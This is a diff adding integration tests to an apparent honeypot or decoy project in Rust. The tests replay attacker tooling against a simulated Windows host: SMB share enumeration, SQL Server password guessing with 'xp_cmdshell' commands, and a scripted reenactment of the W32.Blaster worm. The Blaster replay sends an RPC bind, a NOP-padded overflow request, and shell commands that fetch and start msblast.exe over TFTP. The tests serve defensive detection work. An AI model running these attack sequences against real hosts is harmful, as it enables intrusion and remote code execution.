@@ -15,7 +15,7 @@ use trapline_testing::skipped;
 
 const HOST: Ipv4Addr = Ipv4Addr::new(10, 9, 1, 1);
 
-/// One host with these services.
+/// One host with these services; it fetches what it is told to from who tells it.
 fn host(services: &[(u16, &str)]) -> Decoys {
     let kind = |name: &str| Port::Service(Kind::named(name).unwrap_or_else(|| panic!("no service {name}")));
     let tcp = services.iter().map(|(port, name)| (*port, kind(name))).collect();
@@ -25,7 +25,7 @@ fn host(services: &[(u16, &str)]) -> Decoys {
         .map(|(port, name)| (*port, kind(name)));
     let ports = Arc::new(Ports { tcp, udp: udp.collect() });
     let persona = Arc::new(text::read(text::BUILT_IN[0].1).unwrap());
-    let wiring = Wiring { mac: [2, 0, 0, 9, 1, 1], addresses: vec![HOST], ports, seed: 7 };
+    let wiring = Wiring { mac: [2, 0, 0, 9, 1, 1], addresses: vec![HOST], ports, fetch: true, seed: 7 };
     Decoys::new(vec![Host::new(persona, wiring)], 7)
 }
 
@@ -253,4 +253,159 @@ fn guessers_find_the_password_that_the_policy_lets_in() {
         assert!(told.contains(&format!("{word}{password}")), "{program} {face}: {told}");
     }
     let _ = std::fs::remove_file(list);
+}
+
+const WINDOWS: [(u16, &str); 6] = [
+    (135, "endpoint-mapper"),
+    (137, "netbios-names"),
+    (139, "smb/windows-nt4"),
+    (445, "smb/windows-2000"),
+    (1433, "mssql"),
+    (4444, "shell/windows-2000"),
+];
+
+#[test]
+fn samba_lists_the_shares() {
+    let old = ["--option=client min protocol=NT1", "-m", "NT1"];
+    for (face, port) in [("smb/windows-nt4", "139"), ("smb/windows-2000", "445"), ("smb/windows-xp", "445")] {
+        let services = [(port.parse().unwrap(), face)];
+        let arguments = [&old[..], &["-N", "-p", port, "-L", "//10.9.1.1"]].concat();
+        let Some((told, records, _)) = visit(&services, "smbclient", &arguments, "") else { return };
+        assert!(told.contains("IPC$") && told.contains("ADMIN$"), "{face}: {told}");
+        assert!(
+            records.iter().any(|r| matches!(&r.said, Said::Client { name } if name.0.ends_with(b"Samba"))),
+            "{face}: {records:?}"
+        );
+        let arguments = [
+            "--option=client min protocol=NT1",
+            "--option=client max protocol=NT1",
+            "-U",
+            "",
+            "-N",
+            "-p",
+            port,
+            "-c",
+            "srvinfo; netshareenum",
+            "10.9.1.1",
+        ];
+        let Some((told, ..)) = visit(&services, "rpcclient", &arguments, "") else { return };
+        assert!(told.contains("platform_id") && told.contains("netname: IPC$"), "{face}: {told}");
+    }
+    let Some((told, ..)) = visit(&WINDOWS, "nmblookup", &["-A", "10.9.1.1"], "") else { return };
+    assert!(told.contains("<GROUP>") && told.contains("MAC Address = 02-00-00-09-01-01"), "{told}");
+}
+
+#[test]
+fn a_password_against_smb_is_recorded_as_its_proof() {
+    let arguments = [
+        "--option=client min protocol=NT1",
+        "--option=client ntlmv2 auth=no",
+        "-m",
+        "NT1",
+        "-U",
+        "WG/bob%secret",
+        "-p",
+        "445",
+        "//10.9.1.1/IPC$",
+        "-c",
+        "quit",
+    ];
+    let Some((told, records, _)) = visit(&WINDOWS, "smbclient", &arguments, "") else { return };
+    let logins = logins(&records);
+    assert!(!logins.is_empty(), "{told} {records:?}");
+    assert!(logins[0].0 == "bob" && logins[0].1.starts_with("bob::") && !logins[0].2, "{logins:?} {told}");
+    assert!(told.contains("LOGON_FAILURE"), "{told}");
+}
+
+#[test]
+fn rpcdump_reads_the_endpoint_map() {
+    const PROGRAM: &str = "/usr/share/doc/python3-impacket/examples/rpcdump.py";
+    if !std::path::Path::new(PROGRAM).exists() {
+        return skipped("impacket's rpcdump", "not installed");
+    }
+    let Some((told, ..)) = visit(&WINDOWS, "/usr/bin/python3", &[PROGRAM, "10.9.1.1"], "") else { return };
+    assert!(told.contains("ncacn_ip_tcp:10.9.1.1[10") && told.contains("Received 2 endpoints"), "{told}");
+}
+
+#[test]
+fn tsql_is_refused_and_let_in() {
+    let arguments = ["-H", "10.9.1.1", "-p", "1433", "-U", "sa", "-P", "letmein"];
+    let Some((told, records, _)) = visit(&WINDOWS, "tsql", &arguments, "select 1\ngo\nquit\n") else {
+        return;
+    };
+    assert!(told.contains("Login failed for user 'sa'."), "{told}");
+    assert_eq!(logins(&records)[0], ("sa".into(), "letmein".into(), false));
+    let words = "for n in $(seq 12); do printf 'exec xp_cmdshell \"dir\"\\ngo\\nquit\\n' | tsql -H 10.9.1.1 -p 1433 -U sa -P pw$n; done";
+    let Some((told, records, _)) = visit(&WINDOWS, "bash", &["-c", words], "") else { return };
+    assert!(
+        commands(&records).iter().any(|line| line.contains("xp_cmdshell")),
+        "{told} {:?}",
+        logins(&records)
+    );
+}
+
+/// W32.Blaster (2003): the overflow through 135, a shell at 4444, its own file by TFTP.
+#[test]
+fn blaster_leaves_its_command_and_its_file() {
+    let script = |decoy: Ipv4Addr, machine: Ipv4Addr| -> std::io::Result<()> {
+        use std::io::Read;
+        use std::net::{TcpStream, UdpSocket};
+        let tftp = UdpSocket::bind((machine, 69))?;
+        tftp.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
+        let mut rpc = TcpStream::connect((decoy, 135))?;
+        rpc.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
+        let mut bind = vec![
+            5, 0, 11, 3, 16, 0, 0, 0, 72, 0, 0, 0, 127, 0, 0, 0, 0xd0, 22, 0xd0, 22, 0, 0, 0, 0, 1, 0, 0, 0,
+            1, 0, 1, 0,
+        ];
+        bind.extend([0xa0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46, 0, 0, 0, 0]);
+        bind.extend([
+            4, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11, 0x9f, 0xe8, 8, 0, 0x2b, 0x10, 0x48, 0x60, 2, 0, 0, 0,
+        ]);
+        rpc.write_all(&bind)?;
+        let mut answer = [0; 60];
+        rpc.read_exact(&mut answer)?;
+        assert_eq!((answer[2], &answer[36..38]), (12, &[0u8, 0][..]), "bound");
+        let mut request = vec![5, 0, 0, 3, 16, 0, 0, 0, 0, 0, 0, 0, 0xe5, 0, 0, 0, 0, 0, 0, 0, 1, 0, 4, 0];
+        request.extend([0x90; 1_000]);
+        let length = (request.len() as u16).to_le_bytes();
+        request[8..10].copy_from_slice(&length);
+        rpc.write_all(&request)?;
+        let mut shell = TcpStream::connect((decoy, 4444))?;
+        shell.write_all(format!("tftp -i {machine} GET msblast.exe\n").as_bytes())?;
+        let mut question = [0; 600];
+        let (length, from) = tftp.recv_from(&mut question)?;
+        assert_eq!(&question[..length], b"\0\x01msblast.exe\0octet\0");
+        let transfer = UdpSocket::bind((machine, 0))?;
+        transfer.set_read_timeout(Some(std::time::Duration::from_secs(5)))?;
+        let file: Vec<u8> = (0..1_500u32).map(|i| i as u8).collect();
+        for (block, part) in (1u16..).zip(file.chunks(512)) {
+            transfer.send_to(&[&[0, 3][..], &block.to_be_bytes(), part].concat(), from)?;
+            let (length, _) = transfer.recv_from(&mut question)?;
+            assert_eq!(&question[..length], [&[0, 4][..], &block.to_be_bytes()].concat());
+        }
+        shell.write_all(b"start msblast.exe\nmsblast.exe\n")?;
+        // Told to get it from somebody else, it does not.
+        shell.write_all(b"tftp -i 10.9.0.99 GET other.exe\n")?;
+        std::thread::sleep(std::time::Duration::from_millis(200));
+        Ok(())
+    };
+    let done = on_a_bench(Trouble::default(), |bench| {
+        bench.put(host(&WINDOWS));
+        script(HOST, trapline_testing::bench::MACHINE).unwrap();
+        let mut decoys = bench.decoys();
+        (decoys.take_records(), decoys.take_uploads())
+    });
+    match done {
+        Err(why) => skipped("Blaster", &why),
+        Ok((records, uploads)) => {
+            let lines = commands(&records);
+            assert_eq!(lines[..2], ["tftp -i 10.9.0.1 GET msblast.exe", "start msblast.exe"], "{records:?}");
+            assert_eq!(uploads.len(), 1);
+            assert_eq!(uploads[0].bytes.len(), 1_500);
+            let shellcode =
+                |r: &Record| matches!(&r.said, Said::Request { whole, .. } if whole.0.len() == 1_000);
+            assert!(records.iter().any(shellcode), "{records:?}");
+        }
+    }
 }
